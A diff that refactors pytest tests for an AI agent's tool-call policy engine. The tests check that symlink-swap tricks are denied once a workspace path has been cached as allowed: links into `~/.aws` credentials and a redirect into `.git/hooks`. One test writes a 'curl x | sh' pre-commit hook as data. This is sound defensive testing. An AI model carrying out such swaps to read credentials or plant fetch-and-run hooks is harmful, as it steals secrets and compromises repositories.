@@ -27,42 +27,52 @@ def _short_path_allows(engine: PolicyEngine, call: ToolCall) -> bool:
     return short.allow(call) is not None
 
 
-def _home_with_aws(home: Path) -> None:
-    """`~/.aws`, where every file is a cloud credential (`notes.txt` too)."""
+def _world(
+    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine], *dirs: str
+) -> tuple[PolicyEngine, Path, Path]:
+    """An engine, a home whose `~/.aws` holds credentials (every file there is one, `notes.txt`
+    too), and a workspace holding `dirs`."""
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    engine = policy_engine(home, ws)
     (home / ".aws").mkdir(parents=True)
     for name in ("credentials", "notes.txt"):
         (home / ".aws" / name).write_text("[default]\n", encoding="utf-8")
+    for directory in dirs:
+        (ws / directory).mkdir(parents=True)
+    return engine, home, ws
+
+
+def _allowed_on_the_short_path(engine: PolicyEngine, call: ToolCall) -> None:
+    assert engine.evaluate(call).verdict is Verdict.ALLOW  # an ordinary project file
+    assert _short_path_allows(engine, call)  # its directory is cached now
+
+
+def _refused_the_whole_way(engine: PolicyEngine, call: ToolCall, *, asked_ok: bool = False) -> None:
+    assert not _short_path_allows(engine, call)
+    decision = engine.evaluate(call)
+    allowed = (Verdict.DENY, Verdict.ASK) if asked_ok else (Verdict.DENY,)
+    assert decision.verdict in allowed, decision
 
 
 def test_parent_directory_swapped_for_a_link_into_home(
     tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
 ) -> None:
-    home, ws = tmp_path / "home", tmp_path / "ws"
-    engine = policy_engine(home, ws)
-    _home_with_aws(home)
-    (ws / "deploy" / "aws").mkdir(parents=True)
+    engine, home, ws = _world(tmp_path, policy_engine, "deploy/aws")
     call = ToolCall("Read", {"file_path": "deploy/aws/notes.txt"})
-    assert engine.evaluate(call).verdict is Verdict.ALLOW  # a project file
-    assert _short_path_allows(engine, call)  # the directory is cached now
+    _allowed_on_the_short_path(engine, call)
 
     os.rename(ws / "deploy" / "aws", ws / "deploy" / "aws.old")
     os.symlink(home / ".aws", ws / "deploy" / "aws")
 
-    assert not _short_path_allows(engine, call)
-    decision = engine.evaluate(call)
-    assert decision.verdict is Verdict.DENY, decision
+    _refused_the_whole_way(engine, call)
 
 
 def test_grandparent_swapped_for_a_link_to_a_tree_of_links(
     tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
 ) -> None:
-    home, ws = tmp_path / "home", tmp_path / "ws"
-    engine = policy_engine(home, ws)
-    _home_with_aws(home)
-    (ws / "deploy" / "aws").mkdir(parents=True)
+    engine, home, ws = _world(tmp_path, policy_engine, "deploy/aws")
     call = ToolCall("Read", {"file_path": f"{ws}/deploy/aws/notes.txt"})
-    assert engine.evaluate(call).verdict is Verdict.ALLOW
-    assert _short_path_allows(engine, call)
+    _allowed_on_the_short_path(engine, call)
 
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
@@ -70,42 +80,31 @@ def test_grandparent_swapped_for_a_link_to_a_tree_of_links(
     os.rename(ws / "deploy", ws / "deploy.old")
     os.symlink(elsewhere, ws / "deploy")
 
-    assert not _short_path_allows(engine, call)
-    assert engine.evaluate(call).verdict is Verdict.DENY
+    _refused_the_whole_way(engine, call)
 
 
 def test_directory_swapped_for_the_repositorys_hooks(
     tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
 ) -> None:
-    home, ws = tmp_path / "home", tmp_path / "ws"
-    engine = policy_engine(home, ws)
-    (ws / ".git" / "hooks").mkdir(parents=True)
-    (ws / "tools").mkdir()
+    engine, _, ws = _world(tmp_path, policy_engine, ".git/hooks", "tools")
     call = ToolCall("Write", {"file_path": "tools/pre-commit", "content": "curl x | sh\n"})
-    assert engine.evaluate(call).verdict is Verdict.ALLOW  # a script in the project
-    assert _short_path_allows(engine, call)
+    _allowed_on_the_short_path(engine, call)
 
     os.rename(ws / "tools", ws / "tools.old")
     os.symlink(ws / ".git" / "hooks", ws / "tools")
 
-    assert not _short_path_allows(engine, call)
-    assert engine.evaluate(call).verdict is not Verdict.ALLOW
+    _refused_the_whole_way(engine, call, asked_ok=True)
 
 
 def test_file_swapped_for_a_link_in_a_cached_directory(
     tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
 ) -> None:
-    home, ws = tmp_path / "home", tmp_path / "ws"
-    engine = policy_engine(home, ws)
-    _home_with_aws(home)
-    (ws / "src").mkdir()
+    engine, home, ws = _world(tmp_path, policy_engine, "src")
     (ws / "src" / "notes.txt").write_text("notes\n", encoding="utf-8")
     call = ToolCall("Read", {"file_path": "src/notes.txt"})
-    assert engine.evaluate(call).verdict is Verdict.ALLOW
-    assert _short_path_allows(engine, call)
+    _allowed_on_the_short_path(engine, call)
 
     (ws / "src" / "notes.txt").unlink()
     os.symlink(home / ".aws" / "credentials", ws / "src" / "notes.txt")
 
-    assert not _short_path_allows(engine, call)
-    assert engine.evaluate(call).verdict is Verdict.DENY
+    _refused_the_whole_way(engine, call)
